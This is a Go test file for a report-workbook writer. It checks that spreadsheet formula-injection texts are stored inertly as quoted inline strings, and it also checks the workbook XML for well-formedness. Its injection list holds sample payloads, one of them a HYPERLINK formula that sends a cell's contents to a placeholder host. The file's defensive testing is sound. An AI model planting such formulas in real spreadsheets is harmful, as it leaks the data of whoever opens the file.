package reportbook

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// injections are texts a unit could type to have the office's workbook run something.
var injections = []string{
	`=HYPERLINK("http://x.invalid/?d="&A1,"Bấm vào đây")`,
	"+1+1",
	"-2",
	"@SUM(A1)",
	"\tx",
	"\rx",
	"  =1+1",
}

// hostileFixture is a work program and a result report whose texts are the injections.
func hostileFixtures(t testing.TB) (work, report *fixture) {
	t.Helper()
	work = newFixture(t, "BM.04.01/KH", 1, len(injections))
	rows := work.in.Current["U01"].Filled.Tables["tasks"]
	for i, text := range injections {
		rows[i].Values["content"] = text
		rows[i].Values["person"] = text
	}
	work.rebuild(t)
	report = newFixture(t, "BM.02.01/KH", 1, 0)
	report.in.Current["U01"].Filled.Narrative["shortcomings"] = strings.Join(injections, "\n")
	report.rebuild(t)
	return work, report
}

// quoted reports whether a cell's style carries quotePrefix.
func quoted(t testing.TB, f *excelize.File, sheet, cell string) bool {
	t.Helper()
	id, err := f.GetCellStyle(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.GetStyle(id); err != nil { // loads the style sheet
		t.Fatal(err)
	}
	q := f.Styles.CellXfs.Xf[id].QuotePrefix
	return q != nil && *q
}

func TestWrite_FormulaInjection(t *testing.T) {
	work, report := hostileFixtures(t)
	f, _ := work.write(t)
	all := rows(t, f, sheetSummary)
	_, hr := rowWith(t, all, 0, hdrNo)
	for i, text := range injections {
		t.Run(strconv.Quote(text), func(t *testing.T) {
			want := cleanText(text)
			for _, col := range []string{"C", "F"} { // content (wrapped), person (not wrapped)
				cell := col + strconv.Itoa(hr+1+i)
				got, err := f.GetCellValue(sheetSummary, cell)
				if err != nil || got != want {
					t.Errorf("%s: got %q (%v), want %q", cell, got, err, want)
				}
				if formula, _ := f.GetCellFormula(sheetSummary, cell); formula != "" {
					t.Errorf("%s: got formula %q, want none", cell, formula)
				}
				if typ, _ := f.GetCellType(sheetSummary, cell); typ != excelize.CellTypeInlineString {
					t.Errorf("%s: got cell type %v, want an inline string", cell, typ)
				}
				if !quoted(t, f, sheetSummary, cell) {
					t.Errorf("%s: got a style without quotePrefix, want it", cell)
				}
			}
		})
	}
	t.Run("Narrative", func(t *testing.T) {
		f, _ := report.write(t)
		all := rows(t, f, sheetNarrative)
		_, sec := rowWith(t, all, 0, "II.2. Tồn tại, hạn chế")
		for i, want := range []string{injections[0], "+1+1", "-2", "@SUM(A1)", "\tx", "x", "  =1+1"} {
			cell := "C" + strconv.Itoa(sec+1+i)
			if got := cellValue(t, f, sheetNarrative, cell); got != want {
				t.Errorf("%s: got %q, want %q", cell, got, want)
			}
			if formula, _ := f.GetCellFormula(sheetNarrative, cell); formula != "" {
				t.Errorf("%s: got formula %q, want none", cell, formula)
			}
		}
	})
	t.Run("PlainTextNotQuoted", func(t *testing.T) {
		if quoted(t, f, sheetSummary, "C"+strconv.Itoa(hr)) {
			t.Errorf("header: got quotePrefix, want none")
		}
	})
}

// TestWrite_WellFormed checks every XML part of workbooks with hostile text and many units:
// well-formed, no duplicate defined names, sheet names within Excel's rules.
func TestWrite_WellFormed(t *testing.T) {
	work, _ := hostileFixtures(t)
	u := work.in.Current["U01"]
	u.Filled.Tables["tasks"][0].Values["content"] = "bad \x00\x01\x1b\ufffe\uffff end \xff\xfe"
	work.in.Current["U01"] = u
	work.rebuild(t)
	long := newFixture(t, "KT-XH", UnitSheetLimit+1, 0)
	for _, fx := range []*fixture{work, long} {
		_, data := fx.write(t)
		checkPackage(t, data)
	}
}

func checkPackage(t testing.TB, data []byte) {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if !strings.HasSuffix(zf.Name, ".xml") && !strings.HasSuffix(zf.Name, ".rels") {
			continue
		}
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		names, cols, err := wellFormed(rc)
		rc.Close()
		if err != nil {
			t.Errorf("%s: %v", zf.Name, err)
		}
		if !slices.IsSorted(cols) {
			t.Errorf("%s: columns out of order %v; Excel repairs such a file", zf.Name, cols)
		}
		seen := map[string]bool{}
		for _, n := range names {
			if seen[n] {
				t.Errorf("%s: defined name %s twice", zf.Name, n)
			}
			seen[n] = true
		}
	}
}

// wellFormed decodes an XML part to its end and returns its defined names with their scope
// and the first column of each of its column ranges.
func wellFormed(r io.Reader) (names []string, cols []int, err error) {
	d := xml.NewDecoder(r)
	for {
		tok, err := d.Token()
		if errors.Is(err, io.EOF) {
			return names, cols, nil
		}
		if err != nil {
			return names, cols, err
		}
		el, ok := tok.(xml.StartElement)
		if !ok {
			continue
		}
		switch el.Name.Local {
		case "definedName":
			key := ""
			for _, a := range el.Attr {
				key += a.Name.Local + "=" + a.Value + ";"
			}
			names = append(names, key)
		case "col":
			for _, a := range el.Attr {
				if a.Name.Local == "min" {
					n, _ := strconv.Atoi(a.Value)
					cols = append(cols, n)
				}
			}
		}
	}
}
